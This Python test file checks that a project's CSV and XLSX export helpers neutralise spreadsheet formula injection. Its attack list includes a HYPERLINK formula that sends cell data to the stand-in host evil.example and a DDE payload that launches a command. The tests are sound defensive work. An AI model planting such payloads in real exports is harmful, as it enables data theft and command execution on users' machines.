"""The one helper every CSV and XLSX export writes user text through."""

import io

import pytest
from openpyxl import Workbook, load_workbook

from kezdesu.core.spreadsheet import csv_cell, csv_row, xlsx_cell

ATTACKS = ['=HYPERLINK("http://evil.example/?c="&A1,"Answer")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
           "\t=1+1", "\r=1+1", "＝1+1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_csv_cell_prefixes_formula_triggers(text):
    assert csv_cell(text) == "'" + text


def test_csv_cell_leaves_data_alone():
    assert csv_row(["Жол жөндеу", 42, -3, None, "a=b", ""]) == ["Жол жөндеу", 42, -3, "", "a=b", ""]


def test_xlsx_cell_stores_text_never_a_formula():
    workbook = Workbook()
    sheet = workbook.active
    for row, text in enumerate([*ATTACKS[:4], "Жай мәтін"], 1):
        xlsx_cell(sheet, row=row, column=1, value=text)
    xlsx_cell(sheet, row=10, column=1, value=12)
    out = io.BytesIO()
    workbook.save(out)
    reopened = load_workbook(io.BytesIO(out.getvalue())).active
    cells = [reopened.cell(row=r, column=1) for r in range(1, 6)]
    assert [c.data_type for c in cells] == ["s"] * 5
    assert [c.value for c in cells] == [*ATTACKS[:4], "Жай мәтін"]
    assert cells[0].quotePrefix and not cells[4].quotePrefix
    assert reopened.cell(row=10, column=1).value == 12
